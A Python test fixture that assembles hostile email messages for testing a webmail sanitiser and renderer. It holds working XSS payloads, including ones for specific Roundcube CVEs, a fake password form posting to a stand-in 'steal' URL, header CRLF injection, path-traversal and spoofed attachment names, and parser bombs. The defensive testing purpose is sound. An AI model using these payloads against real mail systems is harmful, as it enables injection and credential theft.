"""A corpus of hostile RFC 5322 messages, built from published webmail advisories and the
tricks behind them, for the parser, sanitiser and composer tests here and for the browser
tests that render each one through the gateway.

`hostile_messages()` returns (name, raw bytes) pairs. Every remote URL points at
`tracker.example`, so a browser test can assert that no request ever leaves for it.
"""

from __future__ import annotations

import base64
import zlib

TRACKER = "tracker.example"


def _crlf(text: str) -> bytes:
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode("utf-8")


def _headers(subject: str, extra: str = "") -> str:
    message_id = f"<{zlib.crc32(subject.encode()):08x}@evil.example>"
    return (f"From: Attacker <attacker@evil.example>\nTo: Member <member@council.example>\n"
            f"Subject: {subject}\nDate: Mon, 03 Mar 2025 10:04:00 +0000\n"
            f"Message-ID: {message_id}\nMIME-Version: 1.0\n{extra}")


def html_mail(subject: str, html: str, charset: str = "utf-8") -> bytes:
    return _crlf(_headers(subject) + f'Content-Type: text/html; charset="{charset}"\n'
                 "Content-Transfer-Encoding: 8bit\n\n" + html + "\n")


def mixed_mail(subject: str, parts: list[str], extra: str = "") -> bytes:
    body = "".join(f"--BOUNDARY\n{part}\n" for part in parts)
    return _crlf(_headers(subject, extra) + 'Content-Type: multipart/mixed; boundary="BOUNDARY"'
                 f"\n\n{body}--BOUNDARY--\n")


def attachment(ctype: str, disposition: str, data: bytes) -> str:
    encoded = base64.encodebytes(data).decode("ascii")
    return (f"Content-Type: {ctype}\nContent-Disposition: {disposition}\n"
            f"Content-Transfer-Encoding: base64\n\n{encoded}")


_T = f"https://{TRACKER}"
_HTML_XSS = {
    "script-tag": "<p>Hello</p><script>alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "handler-casing-whitespace": (
        '<div OnMoUsEoVeR="alert(1)">a</div><a href="#" onclick\n=alert(1)>b</a>'
        "<img/src=x/onerror=alert(1)><body onload=alert(1)><p/onfocus=alert(1) tabindex=1>c"),
    # Roundcube CVE-2024-42009: attributes that a later regex rewrite turned live.
    "roundcube-cve-2024-42009": (
        '<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes '
        'onanimationstart=alert(origin) foo=bar">Foo</body>'),
    # Roundcube CVE-2024-37383: SVG animate with a space after the attribute name.
    "roundcube-cve-2024-37383-svg-animate": (
        '<svg><animate attributeName="href " values="javascript:alert(1)" href="#link"/>'
        '<a id="link"><text x="20" y="20">XSS</text></a></svg>'),
    # Roundcube CVE-2023-5631: SVG <use> pulling a data: document with a handler.
    "roundcube-cve-2023-5631-svg-use": (
        '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3c'
        'udzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0iMSIgb25lcnJvcj0iYWxlcnQoMSkiLz48L3N2Zz4=#x"/>'
        "</svg>"),
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mxss-math-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mxss-svg-style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mxss-form-math": ("<form><math><mtext></form><form><mglyph><style></math>"
                       "<img src onerror=alert(1)>"),
    "template-and-raw-text": ("<template><img src=x onerror=alert(1)></template>"
                              "<xmp><img src=x onerror=alert(2)></xmp><textarea>"
                              "<script>alert(3)</script></textarea><plaintext><b>x"),
    "comments-cdata-pi": ("<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x "
                          "onerror=alert(2)>]]><? foo=\"><script>alert(3)</script>\">"),
    "css-expression-and-js-url": (
        '<div style="width: expression(alert(1))">a</div>'
        '<div style="background:url(javascript:alert(1))">b</div>'
        '<p style="behavior: url(x.htc); -moz-binding: url(https://evil.example/x.xml#xss)">c'),
    "css-remote-and-escapes": (
        f'<div style="background-image: url(&quot;{_T}/bg.png&quot;)">a</div>'
        f'<div style="background:u\\72l({_T}/esc.png)">b</div>'
        f'<div style="background: ur/**/l({_T}/comment.png)">c</div>'
        f'<div style="list-style: url({_T}/list.png); cursor: url({_T}/c.cur), auto">d</div>'),
    "style-block-import": (f"<style>@import url({_T}/x.css); body{{background:url({_T}/b.png)}}"
                           "</style><p>styled</p>"),
    "meta-base-link-form": (
        f'<meta http-equiv="refresh" content="0;url={_T}/refresh"><base href="{_T}/">'
        f'<link rel="stylesheet" href="{_T}/s.css"><link rel="prefetch" href="{_T}/p">'
        f'<form action="{_T}/steal" method="post"><input name="password" type="password">'
        '<button formaction="javascript:alert(1)">Log in</button></form>'),
    "frames-objects": (
        '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'
        f'<iframe srcdoc="<script>alert(2)</script>"></iframe><object data="{_T}/o.swf">'
        f'</object><embed src="{_T}/e.swf"><applet code="x"></applet>'
        "<frameset><frame src=\"javascript:alert(3)\"></frameset>"),
    "javascript-url-variants": (
        '<a href="javascript&#58;alert(1)">1</a><a href="&#106;&#97;&#118;&#97;&#115;&#99;'
        '&#114;&#105;&#112;&#116;&#58;alert(2)">2</a><a href="jav&#x09;ascript:alert(3)">3</a>'
        '<a href=" javascript:alert(4)">4</a><a href="JaVaScRiPt:alert(5)">5</a>'
        '<a href="\\u006aavascript:alert(6)">6</a><a href="java\x00script:alert(7)">7</a>'
        '<a href="vbscript:msgbox(8)">8</a><a href="file:///etc/passwd">9</a>'
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">10</a>'
        '<img src="javascript:alert(11)"><a href="https://ok.example/" target="_self" '
        'rel="opener">ok</a>'),
    "remote-images": (
        f'<img src="{_T}/pixel.gif" width="1" height="1"><img src="http://{TRACKER}/p.gif">'
        f'<img src="//{TRACKER}/proto.gif"><img srcset="{_T}/a.png 1x">'
        f'<table background="{_T}/t.png"><tr><td background="{_T}/td.png">x</td></tr></table>'
        f'<video poster="{_T}/v.png"></video><input type="image" src="{_T}/i.png">'
        f'<picture><source srcset="{_T}/s.png"><img src="cid:logo@x"></picture>'
        f'<audio src="{_T}/a.mp3"></audio><body background="{_T}/b.png">'
        f'<img src="cid:logo@x" onerror="alert(1)"><img src="{_T}/p2.gif" onload="alert(2)">'),
    "overlay-and-backtick": (
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">Login</div>'
        "<img src=`x`onerror=alert(1)>"),
}


def hostile_messages() -> list[tuple[str, bytes]]:
    """(name, raw message) pairs, each one a trick seen in webmail advisories."""
    out = [(f"html-{name}", html_mail(name, html)) for name, html in _HTML_XSS.items()]
    out += [
        ("html-utf7-charset", html_mail("utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
                                        charset="utf-7")),
        ("text-with-markup", _crlf(_headers("text") + "Content-Type: text/plain; charset=utf-8"
                                   '\n\n<script>alert(1)</script> https://ok.example/"onmouseover='
                                   '"alert(1) <img src=x onerror=alert(2)> a@b.example"><i>\n')),
        ("header-encoded-crlf", _crlf(
            "From: =?utf-8?q?x=0D=0ABcc:_evil@evil.example?= <attacker@evil.example>\n"
            "To: member@council.example\nCc: =?utf-8?q?y=0D=0ABcc:_evil2@evil.example?= "
            "<c@evil.example>\nSubject: =?utf-8?q?hello=0D=0ABcc:_evil3@evil.example?=\n"
            "Message-ID: <crlf@evil.example>\nReferences: <a@x> =?utf-8?q?=0D=0ABcc:_z@e?=\n"
            "Content-Type: text/plain\n\nbody\n")),
        ("header-huge", _crlf(_headers("huge " + "=?utf-8?q?a?= " * 30_000)
                              + "X-Long: " + "x" * 300_000 + "\nContent-Type: text/plain\n\nb\n")),
        ("header-bad-charsets-and-words", _crlf(
            "From: =?x-unknown?q?Bad?= <a@evil.example>\nTo: =?zlib?b?AAAA?= <b@x.example>, "
            "undisclosed-recipients:;\nSubject: =?utf-8?b?!!!notbase64?= =?idna?q?=FF=FE?= "
            "=?hex?q?41?=\nDate: Mon, 99 Foo 99999 99:99:99 +9999\n"
            "Content-Type: text/plain; charset=zlib\n\nbody\n")),
        ("header-nul-cr-8bit", b"From: \xff\xfe <a@evil.example>\r\nTo: m\x00@council.example\r\n"
                               b"Subject: caf\xe9 \xe2\x80\xae evil\rBcc: x@evil.example\r\n"
                               b"Content-Type: text/plain; charset=idna\r\n\r\n\xff\xfe body\r\n"),
        ("many-recipients", _crlf(_headers("many", "Cc: " + ", ".join(
            f"u{i}@council.example" for i in range(3000)) + "\n")
            + "Content-Type: text/plain\n\nb\n")),
        ("bad-encodings", mixed_mail("bad encodings", [
            "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
            "@@@not base64!!!\n",
            "Content-Type: text/html; charset=bogus-charset\nContent-Transfer-Encoding: "
            "quoted-printable\n\n<p>=ZZ=3Cscript=3Ealert(1)=3C/script=3E=\n",
            "Content-Type: application/pdf; name=x.pdf\nContent-Transfer-Encoding: x-uuencode\n\n"
            "begin 644 x\n#86)C\n`\nend\n",
            "Content-Type: image/png\nContent-Transfer-Encoding: x-made-up\n\nabc",
            "Content-Type: multipart/alternative\n\nno boundary here",
            "Content-Type: text\n\nno subtype"])),
        ("no-content-type", _crlf("From: a@evil.example\nSubject: bare\n\n<b>not html</b>\n")),
        ("multipart-unclosed", _crlf(_headers("unclosed") + 'Content-Type: multipart/mixed; '
                                     'boundary="X"\n\n--X\nContent-Type: text/plain\n\nhello\n')),
        ("deep-multipart", _deep_multipart(1200)),
        ("deep-div-nesting", html_mail("deep", "<div>" * 100_000 + "bottom")),
        ("attribute-bomb", html_mail("attrs", "<div " + " ".join(
            f"a{i}=1" for i in range(100_000)) + ">x</div>")),
        ("attachment-names", mixed_mail("names", [
            "Content-Type: text/plain\n\nsee attached",
            attachment("application/octet-stream",
                       "attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe", b"MZ\x90\x00"),
            attachment("application/pdf", 'attachment; filename="../../../../etc/passwd"',
                       b"%PDF-1.4"),
            attachment("application/pdf", 'attachment; filename="..\\\\..\\\\win.ini"', b"x"),
            attachment("application/pdf", "attachment; filename*0*=utf-8''%E2%80%8F.%2E.;"
                       " filename*1=hidden; filename*2*=%0D%0A.pdf", b"y"),
            attachment("application/pdf", 'attachment; filename="=?utf-8?q?r=C3=A9sum=C3=A9'
                       '=0D=0A.pdf?="', b"z"),
            attachment("application/pdf", f'attachment; filename="{"A" * 1000}.pdf"', b"w"),
            attachment("application/pdf", 'attachment; filename=".bashrc"', b"v"),
            attachment("application/pdf", "attachment; filename*=bogus''x%FF.pdf", b"u")])),
        ("attachment-dangerous-types", mixed_mail("types", [
            "Content-Type: text/plain\n\nsee attached",
            attachment("text/html", 'attachment; filename="invoice.html"',
                       b"<script>alert(document.cookie)</script>"),
            attachment("image/svg+xml", 'attachment; filename="logo.svg"',
                       b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
            attachment("image/png", 'inline; filename="photo.png"',
                       b"<html><script>alert('content-type lie')</script></html>"),
            attachment("text/html", "inline", b"<img src=x onerror=alert('inline html')>")])),
        ("calendar-invite", mixed_mail("invite", [
            "Content-Type: text/plain\n\nYou are invited",
            "Content-Type: text/calendar; method=REQUEST; charset=utf-8\n\n"
            "BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:evil-1\n"
            "SUMMARY:<script>alert(1)</script>\\, meeting\nLOCATION:javascript:alert(2)\n"
            "DTSTART;TZID=GMT Standard Time:20250310T100000\nDTEND:20250310T110000Z\n"
            "ORGANIZER;CN=\"Evil\\r\\nBcc: x@y\":mailto:evil@evil.example\n"
            "ATTENDEE;CN=Member;PARTSTAT=NEEDS-ACTION:mailto:member@council.example\n"
            "END:VEVENT\nEND:VCALENDAR\n"])),
        ("inline-cid-and-rfc822", mixed_mail("cid", [
            'Content-Type: text/html; charset=utf-8\n\n<img src="cid:logo@x"><p>logo</p>',
            "Content-Type: image/png\nContent-ID: <logo@x>\nContent-Disposition: inline\n"
            "Content-Transfer-Encoding: base64\n\niVBORw0KGgo=",
            "Content-Type: message/rfc822\n\nFrom: inner@evil.example\nSubject: inner\n"
            "Content-Type: text/html\n\n<script>alert('inner')</script>"])),
    ]
    return out


def _deep_multipart(depth: int) -> bytes:
    opening = "".join(f'Content-Type: multipart/mixed; boundary="b{i}"\n\n--b{i}\n'
                      for i in range(depth))
    closing = "".join(f"--b{i}--\n" for i in reversed(range(depth)))
    return _crlf(_headers("deep multipart") + opening
                 + "Content-Type: text/plain\n\nat the bottom\n" + closing)
